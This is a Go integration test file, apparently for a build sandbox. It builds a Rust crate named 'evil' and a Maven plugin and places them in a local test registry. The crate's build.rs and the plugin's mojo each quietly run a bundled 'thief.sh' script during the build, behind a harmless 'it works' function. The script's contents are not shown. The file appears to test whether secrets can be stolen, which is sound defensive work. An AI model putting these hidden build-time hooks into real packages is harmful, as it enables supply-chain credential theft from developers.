package integration

import (
	"archive/zip"
	"bytes"
	"crypto/sha1" //nolint:gosec // what Maven asks for
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func (b theft) cargo(t *testing.T) {
	t.Helper()
	pack := tarball(t, "evil-1.0.0/Cargo.toml", "[package]\nname = \"evil\"\nversion = \"1.0.0\"\nedition = \"2018\"\n",
		"evil-1.0.0/src/lib.rs", "pub fn works() { println!(\"it works\"); }\n", "evil-1.0.0/thief.sh", b.script(t),
		"evil-1.0.0/build.rs", "fn main() { let _ = std::process::Command::new(\"sh\").arg(\"thief.sh\").status(); }\n")
	top := b.victim() + "/registry/"
	must(t, os.WriteFile(top+"crates/evil-1.0.0.crate", pack, 0o644))
	must(t, os.WriteFile(top+"index/config.json", []byte(`{"dl": "`+registry+`/crates/{crate}-{version}.crate"}`), 0o644))
	must(t, os.WriteFile(top+"index/ev/il/evil", []byte(fmt.Sprintf(`{"name": "evil", "vers": "1.0.0", "deps": [], "cksum": "%x", "features": {}, "yanked": false}`, sha256.Sum256(pack))), 0o644))
	b.file(t, "crate/Cargo.toml", "[package]\nname = \"shop\"\nversion = \"1.0.0\"\nedition = \"2018\"\n[dependencies]\nevil = \"1.0.0\"\n")
	b.file(t, "crate/src/main.rs", "fn main() { evil::works() }\n")
}

// rust is where this host has Rust's tools, and what a box needs to see of them.
func rust(t *testing.T) (bin, grant string) {
	t.Helper()
	at := strings.TrimSpace(mustRun(t, "rustc", "--print", "sysroot"))
	if strings.HasPrefix(at, "/usr") {
		return at + "/bin", ""
	}
	return at + "/bin", "--ro " + at
}

const evilMojo = `package com.example;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import org.apache.maven.plugin.AbstractMojo;
import org.apache.maven.plugin.MojoExecutionException;

public class Work extends AbstractMojo {
  public void execute() throws MojoExecutionException {
    try (InputStream in = Work.class.getResourceAsStream("/thief.sh")) {
      String thief = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      new ProcessBuilder("sh", "-c", thief).inheritIO().start().waitFor();
    } catch (Exception e) {
      throw new MojoExecutionException("the thief", e);
    }
    getLog().info("it works");
  }
}
`

const evilPlugin = `<plugin><name>evil</name><groupId>com.example</groupId><artifactId>evil-maven-plugin</artifactId><version>1.0</version><goalPrefix>evil</goalPrefix>
<mojos><mojo><goal>work</goal><requiresProject>false</requiresProject><implementation>com.example.Work</implementation><language>java</language><instantiationStrategy>per-lookup</instantiationStrategy><executionStrategy>once-per-session</executionStrategy></mojo></mojos></plugin>
`

// maven puts a plugin into the registry, which is a program that Maven downloads
// and runs, and the library that Maven gives each plugin.
func (b theft) maven(t *testing.T) {
	t.Helper()
	work := t.TempDir()
	must(t, os.WriteFile(work+"/Work.java", []byte(evilMojo), 0o644))
	mustRun(t, "javac", "-cp", "/usr/share/maven/lib/maven-plugin-api-3.x.jar", "-d", work, work+"/Work.java")
	var jar bytes.Buffer
	z := zip.NewWriter(&jar)
	for name, text := range map[string]string{
		"META-INF/maven/plugin.xml": evilPlugin, "thief.sh": b.script(t), "com/example/Work.class": read(t, work+"/com/example/Work.class"),
	} {
		w, err := z.Create(name)
		must(t, err)
		_, err = w.Write([]byte(text))
		must(t, err)
	}
	must(t, z.Close())
	libraries, err := filepath.Glob("/usr/share/maven/lib/plexus-utils*.jar")
	if err != nil || len(libraries) == 0 {
		t.Fatal("Maven has no plexus-utils")
	}
	for at, data := range map[string]string{
		"com/example/evil-maven-plugin/1.0/evil-maven-plugin-1.0": jar.String(), "org/codehaus/plexus/plexus-utils/1.1/plexus-utils-1.1": read(t, libraries[0]),
	} {
		full := b.victim() + "/registry/maven/" + at
		must(t, os.MkdirAll(filepath.Dir(full), 0o755))
		parts := strings.Split(filepath.Dir(at), "/")
		n := len(parts)
		packaging := map[bool]string{true: "maven-plugin", false: "jar"}[strings.HasPrefix(at, "com/")]
		pom := fmt.Sprintf("<project><modelVersion>4.0.0</modelVersion><groupId>%s</groupId><artifactId>%s</artifactId><version>%s</version><packaging>%s</packaging></project>",
			strings.Join(parts[:n-2], "."), parts[n-2], parts[n-1], packaging)
		for ext, text := range map[string]string{".pom": pom, ".jar": data} {
			must(t, os.WriteFile(full+ext, []byte(text), 0o644))
			must(t, os.WriteFile(full+ext+".sha1", []byte(fmt.Sprintf("%x", sha1.Sum([]byte(text)))), 0o644))
		}
	}
	b.file(t, "mvn/settings.xml", "<settings><mirrors><mirror><id>own</id><mirrorOf>central</mirrorOf><url>"+registry+"/maven/</url></mirror></mirrors></settings>\n")
	b.file(t, "mvn/pom.xml", "<project><modelVersion>4.0.0</modelVersion><groupId>com.example</groupId><artifactId>shop</artifactId><version>1.0</version><packaging>pom</packaging></project>\n")
}
